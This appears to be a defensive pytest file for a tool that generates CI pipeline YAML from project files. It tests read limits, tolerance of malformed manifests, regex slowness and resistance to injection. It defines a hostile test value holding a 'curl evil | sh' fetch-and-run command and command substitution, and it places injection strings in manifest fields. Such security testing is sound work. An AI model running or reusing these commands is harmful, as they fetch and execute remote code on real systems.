"""Whoever pushes writes these files: reading them is bounded, and nothing of them becomes more than a name."""

from __future__ import annotations

import time

import pytest
import yaml

from plumbline.starters import Files, pipeline_text, propose
from plumbline.starters.files import MOST_BYTES, MOST_READ

EVIL = "a'; curl evil | sh; '$(id)`id`\" #: {x}"


def test_only_so_many_files_and_bytes_are_read() -> None:
    read: list[str] = []

    def counted(path: str) -> bytes:
        read.append(path)
        return b"x" * 300_000

    files = Files([f"{number}.txt" for number in range(1000)], counted)
    for path in files.paths:
        files.text(path)
    assert len(read) <= MOST_READ
    assert len(read) * 300_000 <= MOST_BYTES + 300_000


def test_a_large_file_is_none() -> None:
    files = Files(["package.json"], lambda _: b"{" + b" " * 2_000_000 + b"}")
    assert files.text("package.json") == ""


@pytest.mark.parametrize(
    "text", ["[" * 100_000, "{" * 100_000, "\0\xff", '{"scripts": [[[1]]]}', "null", '{"scripts": {"test": 3}}']
)
@pytest.mark.parametrize("name", ["package.json", "pyproject.toml", "pom.xml", "Cargo.toml", "go.mod", "composer.json",
                                  "global.json", "build.gradle", "setup.cfg", "tox.ini", "CMakeLists.txt"])  # fmt: skip
def test_what_is_broken_is_no_fault(name: str, text: str) -> None:
    tree = {name: text, "a.py": "", "test_a.py": "", "a.c": "", "a.go": "", "a.php": "", "a.csproj": text}
    made = propose(tree, lambda path: tree[path].encode("utf-8", "surrogatepass"))
    yaml.safe_load(pipeline_text(made))


def test_names_of_folders_stay_names() -> None:
    tree = {f"{EVIL}/go.mod": "go 1.23", f"{EVIL}/a.go": "", f"{EVIL}/a_test.go": ""}
    text = pipeline_text(propose(tree, lambda path: tree[path].encode()))
    told = yaml.safe_load(text)
    job = told["test"]
    assert job["script"][0] == "cd " + "'" + EVIL.replace("'", "'\"'\"'") + "'"
    assert job["artifacts"]["reports"]["junit"] == [f"{EVIL}/report.xml"]


def test_what_files_say_becomes_neither_a_line_nor_a_command() -> None:
    package = (
        '{"engines": {"node": "20\\n- evil"}, "packageManager": "pnpm@1;evil", "scripts": {"test": "x\\ny: z; evil"}}'
    )
    project = '[project]\nrequires-python = ">=3.9\\nevil"\n[project.optional-dependencies]\n"test; evil" = []\n'
    tree = {"package.json": package, "pyproject.toml": project, "a.py": "", "test_a.py": "", "a\nb/go.mod": "go 1.23"}
    text = pipeline_text(propose(tree, lambda path: tree[path].encode()))
    assert set(yaml.safe_load(text)) == {"stages", "workflow", "test node", "test python"}
    assert "evil" not in "\n".join(line for line in text.split("\n") if not line.startswith("#"))


@pytest.mark.slow
def test_a_large_tree_is_looked_through_quickly() -> None:
    tree = {f"s{one}/p{two}/package.json": b"{}" for one in range(100) for two in range(100)}
    tree |= {f"s{one}/p{two}/f{three}.py": b"" for one in range(100) for two in range(100) for three in range(5)}
    before = time.process_time()
    propose(tree, tree.__getitem__)
    assert time.process_time() - before < 20  # where each folder is looked at with each other it takes minutes


def test_a_slow_pattern_is_none() -> None:
    text = "<release>" * 20_000 + " " * 200_000
    tree = {
        "pom.xml": text,
        "setup.cfg": "python_requires=" + " " * 300_000,
        "setup.py": "extras_require" + "'" * 300_000,
        "a.py": "",
        "CMakeLists.txt": "option(" * 40_000,
        "a.c": "",
        "Makefile": "test" * 100_000,
    }
    before = time.process_time()
    propose(tree, lambda path: tree[path].encode())
    assert time.process_time() - before < 10
